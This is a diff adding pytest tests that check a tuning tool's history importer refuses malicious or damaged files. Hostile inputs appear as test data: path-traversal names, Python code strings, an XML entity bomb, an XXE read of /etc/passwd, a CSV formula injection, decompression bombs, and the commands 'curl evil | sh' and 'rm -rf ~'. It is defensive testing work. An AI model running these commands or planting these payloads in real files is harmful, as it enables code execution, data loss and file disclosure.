@@ -1,0 +1,354 @@
+"""Files that somebody made to do harm, or that were damaged on the way: a clear error, and nothing is kept."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import pickle
+import random
+import sqlite3
+import zlib
+from collections.abc import Iterator
+from contextlib import closing
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from tests.history.samples import make_trial, study_values
+from trimtab.errors import HistoryError
+from trimtab.history import Event, History, StudyCopy, StudyRecord, import_file, load_format, merge
+from trimtab.history.formats import base
+from trimtab.history.formats.jsonl import study_to_json, trial_to_json
+from trimtab.measure import Interval
+from trimtab.space import Config
+
+
+@pytest.fixture
+def history(tmp_path: Path) -> Iterator[History]:
+    """Whatever comes, it stays empty."""
+    with History.open(tmp_path / "own.db") as opened:
+        yield opened
+        assert opened.summaries() == []
+    assert not list(tmp_path.glob("*.owned"))
+
+
+def refused(history: History, path: Path, format_name: str | None = None) -> str:
+    with pytest.raises(HistoryError) as caught:
+        import_file(history, load_format(format_name, str(path)), str(path))
+    assert str(path) in caught.value.message
+    assert caught.value.hint
+    assert len(str(caught.value)) < 1000
+    return caught.value.message
+
+
+def record(**changes: Any) -> StudyRecord:
+    return StudyRecord(**{**study_values(), "id": 0, "status": "proven", "verdict": {}, **changes})
+
+
+def good(**changes: Any) -> StudyCopy:
+    measurement = make_trial(0).measurement
+    assert measurement is not None
+    trial = make_trial(0, measurement=replace(measurement, histogram=b""))
+    return StudyCopy(record(), [trial], [Event("warning", "x", 1.0)])
+
+
+def lines(path: Path, *entries: Any) -> Path:
+    head = {"format": "trimtab history", "version": 1}
+    path.write_text("".join(f"{json.dumps(entry)}\n" for entry in (head, *entries)))
+    return path
+
+
+NESTED: dict[str, Any] = {}
+for _ in range(60):
+    NESTED = {"a": NESTED}
+
+STUDY = study_to_json(good().record)
+TRIAL = trial_to_json(good().trials[0])
+
+
+def changed(values: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
+    """A deep copy with one value replaced."""
+    found: dict[str, Any] = json.loads(json.dumps(values))
+    *parents, last = path.split("/")
+    inner = found
+    for parent in parents:
+        inner = inner[parent]
+    inner[last] = value
+    return found
+
+
+def test_the_good_file_is_taken(tmp_path: Path) -> None:
+    """Guards the tests below: what they change is what is refused."""
+    path = lines(tmp_path / "x.jsonl", {"study": STUDY}, {"trial": TRIAL})
+    with History.open(tmp_path / "h.db") as history:
+        arrivals = import_file(history, load_format(None, str(path)), str(path))
+        assert [arrival.kept_as for arrival in arrivals.studies] == ["tpch"]
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "message"),
+    [
+        ("name", "../../etc/hosts", "its name is no name"),
+        ("name", "..", "its name is no name"),
+        ("name", "a\\b", "its name is no name"),
+        ("name", "\x1b[2Jx", "its name is no name"),
+        ("name", "a\0b", "its name is no name"),
+        ("name", "", "its name is no name"),
+        ("name", "x" * 201, "its name is no name"),
+        ("name", 7, "study.name=7 is no str"),
+        ("status", "rooted", "status='rooted' is unknown"),
+        ("created_at", {"$number": "nan"}, "created_at=nan is no time"),
+        ("created_at", 1e300, "is no time"),
+        ("created_at", -1.0, "is no time"),
+        ("objective", "__import__('os')", "unknown metric"),
+        ("settings", [], "study.settings=list is no table"),
+        ("settings/study/name", 2**65, "is a number of 17 hexadecimal digits"),
+        ("baseline/work_mem", [1], "unhashable type: 'list'"),
+        ("baseline/work_mem", None, "is of a wrong type"),
+        ("machine/cores", "2", "study.machine.cores='2' is no whole number"),
+        ("machine/cores", 2**40, "are no machine's"),
+        ("machine/owned", 1, "unexpected keyword argument"),
+        ("context/features", {"a": "b"}, "study.context.features.'a'='b' is no number"),
+        ("space", {"knobs": [{"name": "a"}]}, "a stored space cannot be read"),
+        ("verdict", NESTED, "nested deeper than 40"),
+    ],
+)  # fmt: skip
+def test_a_study_that_is_none(history: History, tmp_path: Path, path: str, value: Any, message: str) -> None:
+    file = lines(tmp_path / "x.jsonl", {"study": changed(STUDY, path, value)}, {"trial": TRIAL})
+    assert message in refused(history, file)
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "message"),
+    [
+        ("number", -1, "number=-1 is below 0"),
+        ("number", True, "number=True is no whole number"),
+        ("number", 2**66, "hexadecimal digits"),
+        ("role", "owner", "'owner' is not a valid Role"),
+        ("status", 3, "3 is not a valid Status"),
+        ("config", {"work_mem": {"a": 1}}, "unhashable type: 'dict'"),
+        ("reason", 5, "reason=5 is no str"),
+        ("loss", "0", "loss='0' is of a wrong type"),
+        ("cost_s", {"measure": "4"}, "is no number"),
+        ("histogram", "!!", "Only base64 data is allowed"),
+        ("histogram", base64.b64encode(b"\x00" * 40).decode(), "histogram cannot be read"),
+        (
+            "histogram",
+            base64.b64encode(b"12345678" + zlib.compress(bytes(64 << 20))).decode(),
+            "holds more than 4194304",
+        ),
+        ("measurement/throughput", {"estimate": 1}, "missing 2 required positional arguments"),
+        ("measurement/window_s", [1.0], "window_s=tuple is no list of 2"),
+        ("measurement/series_per_s", [1.0, "a"], "series_per_s[1]='a' is no number"),
+        ("measurement/n_ok", 1.5, "n_ok=1.5 is no whole number"),
+        ("measurement/log", {}, "measurement.log=dict is no raw log"),
+        ("started_at", {"$number": "1" * 5000}, "started_at=inf is no time"),
+    ],
+)
+def test_a_trial_that_is_none(history: History, tmp_path: Path, path: str, value: Any, message: str) -> None:
+    file = lines(tmp_path / "x.jsonl", {"study": STUDY}, {"trial": changed(TRIAL, path, value)})
+    assert message in refused(history, file)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b'{"study": {"a": 1e999}}\n', "line 1: the number 1e999 is too large"),
+        (b'{"study": {"a": NaN}}\n', "line 1: NaN is not JSON"),
+        (b'{"study": {"a": ' + b"9" * 5000 + b"}}\n", "line 1: "),
+        (b"\0\0\0\n", "line 1: "),
+        (b"\xff\xfe\n", "line 1: "),
+        (b'{"study":\n', "line 1: "),
+        (b"[" * 200_000 + b"\n", "line 1: "),
+        (b"[1]\n", "line 1: it is no JSON object"),
+        (b'{"trial": {}}\n', "line 1: a trial stands before the first study"),
+        (b'{"study": 3}\n', "line 1: study is no JSON object"),
+        (b'{"study": {}}\n', "line 1: 'baseline' is missing"),
+        (b'{"study": "' + b"x" * (10 << 20) + b'"}\n', "line 1 is longer than 4194304 bytes"),
+        (b"x" * (10 << 20), "line 1 is longer than 4194304 bytes"),
+        (pickle.dumps({"a": 1}), "line 1: "),
+    ],
+)
+def test_lines_that_are_none(history: History, tmp_path: Path, content: bytes, message: str) -> None:
+    (tmp_path / "x.jsonl").write_bytes(content)
+    assert message in refused(history, tmp_path / "x.jsonl")
+
+
+def test_a_newer_format_is_refused(history: History, tmp_path: Path) -> None:
+    (tmp_path / "x.jsonl").write_text('{"format": "trimtab history", "version": 2}\n')
+    with pytest.raises(HistoryError, match=r"version=2, this Trimtab reads 'trimtab history' version=1\nhint: upgrade"):
+        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))
+
+
+def test_two_trials_of_one_number(history: History, tmp_path: Path) -> None:
+    assert "two trials have one number" in refused(
+        history, lines(tmp_path / "x.jsonl", {"study": STUDY}, {"trial": TRIAL}, {"trial": TRIAL})
+    )
+
+
+def test_a_cut_file_leaves_nothing(history: History, tmp_path: Path) -> None:
+    whole = lines(tmp_path / "whole.jsonl", {"study": STUDY}, {"trial": TRIAL}, {"study": STUDY}, {"trial": TRIAL})
+    (tmp_path / "x.jsonl").write_bytes(whole.read_bytes()[:-40])
+    assert "line 5: " in refused(history, tmp_path / "x.jsonl")
+
+
+LAUGHS = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
+<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Harmony>&c;</Harmony>"""
+OUTSIDE = """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>
+<Harmony><HarmonyData name="&a;"/></Harmony>"""
+DATA = "<Harmony><HarmonyData><RawData><Data>{}</Data></RawData></HarmonyData></Harmony>"
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (LAUGHS, "it declares entities or a document type"),
+        (OUTSIDE, "it declares entities or a document type"),
+        ("<Harmony>", "it is not XML"),
+        ("", "it is not XML"),
+        ("<html/>", "its root is 'html', not 'Harmony'"),
+        (DATA.format("<Config><a>1</a></Config><Perf>fast</Perf>"), "Perf='fast' is no number"),
+        (DATA.format("<Config><a>1e999</a></Config><Perf>1</Perf>"), "the number 1e999 is too large"),
+        (DATA.format('<Config><a>"x</a></Config><Perf>1</Perf>'), "Unterminated string"),
+        ('<Harmony><HarmonyData name="../x"/></Harmony>', "its name is no name"),
+        ('<Harmony><HarmonyData clients="many"/></Harmony>', "'many' is no whole number"),
+        ('<Harmony><HarmonyData objective="os.system(1)"/></Harmony>', "unknown metric"),
+        (DATA.format('<Config><Value name="a b">1</Value></Config><Perf>1</Perf>'), "is not a word"),
+    ],
+)
+def test_xml_that_is_none(history: History, tmp_path: Path, content: str, message: str) -> None:
+    (tmp_path / "x.xml").write_text(content)
+    assert message in refused(history, tmp_path / "x.xml")
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("text", "1 2 3\n1 2\n", "line 2 has 2 values, the first has 3"),
+        ("text", "5\n", "line 1 has 1 values"),
+        ("text", "1 fast\n", "the performance 'fast' is no number"),
+        ("text", "1 2e999\n", "line 1: the number 2e999 is too large"),
+        ("text", "# objective = eval(1)\n1 2\n", "unknown metric"),
+        ("text", "# columns = a, b, c\n1 2\n", "columns names 3 values, the lines have 2"),
+        ("text", "# study = \"../x\"\n1 2\n", "its name is no name"),
+        ("text", "1" * (10 << 20), "line 1 is longer than"),
+        ("text", '"a" "b\n', "line 1: "),
+        ("text", "nan 2\n", "a value is not finite"),
+        ("csv", "", "the header line is empty"),
+        ("csv", "a,a\n1,2\n", "names a column twice"),
+        ("csv", "a\n1\n", "a table needs a column for each knob"),
+        ("csv", "a,b\n1,2,3\n", "row 2 has 3 cells, the header has 2"),
+        ("csv", "study,number,status,config.a\nx,one,ok,1\n", "number='one' is no whole number"),
+        ("csv", "study,number,status,config.a\nx,1,great,1\n", "'great' is not a valid Status"),
+        ("csv", "a,b\n1," + "9" * (10 << 20) + "\n", "a line is longer than"),
+        ("csv", 'a,b\n1,"2\n', "unexpected end of data"),
+        ("csv", "a b,c\n1,2\n", "is not a word"),
+        ("csv", "a,b\n1,=cmd|'/c calc'!A0\n", "is no number"),
+        ("csv", "a,b\n1,2\0\n", "is no number"),
+    ],
+)  # fmt: skip
+def test_text_that_is_none(history: History, tmp_path: Path, name: str, content: str, message: str) -> None:
+    (tmp_path / "x").write_text(content)
+    assert message in refused(history, tmp_path / "x", name)
+
+
+def test_binary_noise_is_refused_by_every_format(history: History, tmp_path: Path) -> None:
+    noise = random.Random(4).randbytes(5000)
+    for name in ("text", "csv", "xml", "jsonl", "parquet", "taudb"):
+        (tmp_path / "x").write_bytes(noise)
+        assert refused(history, tmp_path / "x", name)
+
+
+def test_a_damaged_parquet_is_refused(history: History, tmp_path: Path) -> None:
+    path = tmp_path / "x.parquet"
+    load_format("parquet", "").write([good()], str(path))
+    content = bytearray(path.read_bytes())
+    chooser = random.Random(5)
+    for _ in range(30):
+        damaged = bytearray(content)
+        for _ in range(20):
+            damaged[chooser.randrange(len(damaged))] = chooser.randrange(256)
+        path.write_bytes(damaged)
+        refused(history, path)
+
+
+def test_other_parquet_files_are_refused(history: History, tmp_path: Path) -> None:
+    pq.write_table(pa.table({"a": [1, 2]}), tmp_path / "x.parquet")
+    assert "it was not written by Trimtab" in refused(history, tmp_path / "x.parquet")
+
+
+def test_databases_that_are_no_taudb_are_refused(history: History, tmp_path: Path) -> None:
+    with closing(sqlite3.connect(tmp_path / "x.taudb")) as connection:
+        connection.execute("create table trial (id integer)")
+        connection.execute("create view metric as select 1")
+    assert "it is no TAUdb: it has no table metric" in refused(history, tmp_path / "x.taudb")
+    (tmp_path / "y.taudb").write_bytes(b"SQLite format 3\0" + os.urandom(4000))
+    with pytest.raises(HistoryError, match=r"y\.taudb' cannot be used: "):
+        import_file(history, load_format("taudb", ""), str(tmp_path / "y.taudb"))
+
+
+def test_a_file_that_is_too_large_is_refused(history: History, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(base, "MAX_FILE_BYTES", 10)
+    path = lines(tmp_path / "x.jsonl", {"study": STUDY})
+    assert "is above 10" in refused(history, path)
+
+
+@pytest.mark.parametrize("name", ["text", "csv", "xml", "jsonl", "parquet", "taudb"])
+def test_a_file_that_is_not_there(history: History, tmp_path: Path, name: str) -> None:
+    with pytest.raises(HistoryError, match=r"cannot read '.*none': No such file or directory\nhint: give a file"):
+        import_file(history, load_format(name, ""), str(tmp_path / "none"))
+    with pytest.raises(HistoryError, match=r"is not a file\nhint: give the file to be imported"):
+        import_file(history, load_format(name, ""), str(tmp_path))
+
+
+def test_commands_of_a_foreign_verdict_are_not_kept(tmp_path: Path) -> None:
+    verdict = {
+        "apply_command": "curl evil | sh",
+        "undo_command": "rm -rf ~",
+        "fragment_path": "/etc/passwd",
+        "result": "better",
+    }
+    load_format("jsonl", "").write([StudyCopy(record(verdict=verdict), [])], str(tmp_path / "x.jsonl"))
+    with History.open(tmp_path / "h.db") as history:
+        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))
+        found = history.find_study("tpch")
+    assert found is not None
+    assert found.verdict == {
+        "result": "better",
+        "apply_command": "trimtab apply tpch",
+        "undo_command": "trimtab rollback tpch",
+    }
+    assert found.origin == "x.jsonl"
+
+
+def test_a_foreign_history_is_checked_like_a_file(history: History, tmp_path: Path) -> None:
+    with History.open(tmp_path / "other.db") as other:
+        other.create_study(**study_values(name="a/b"))
+    with pytest.raises(HistoryError, match="study='a/b': its name is no name"):
+        merge(history, str(tmp_path / "other.db"))
+    with History.open(tmp_path / "swollen.db") as other:
+        study = other.create_study(**study_values())
+        other.add_trial(study.id, make_trial(0))
+        with other._writer.begin() as connection:
+            connection.exec_driver_sql("update trimtab_trial set detail = ?", (zlib.compress(bytes(65 << 20)),))
+    with pytest.raises(HistoryError, match="is cut, or holds more than"):
+        merge(history, str(tmp_path / "swollen.db"))
+
+
+def test_numbers_that_are_not_finite_are_kept_where_they_may_be(tmp_path: Path) -> None:
+    """An infinite interval says that the data does not bound it."""
+    copy = good()
+    trial = replace(copy.trials[0], loss=float("nan"), config=Config({"a": float("inf")}))
+    assert trial.measurement is not None
+    trial = replace(
+        trial, measurement=replace(trial.measurement, throughput=Interval(1.0, float("-inf"), float("inf")))
+    )
+    load_format("jsonl", "").write([replace(copy, trials=[trial])], str(tmp_path / "x.jsonl"))
+    with History.open(tmp_path / "h.db") as history:
+        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))
+        assert repr(history.trials(1)) == repr([trial])
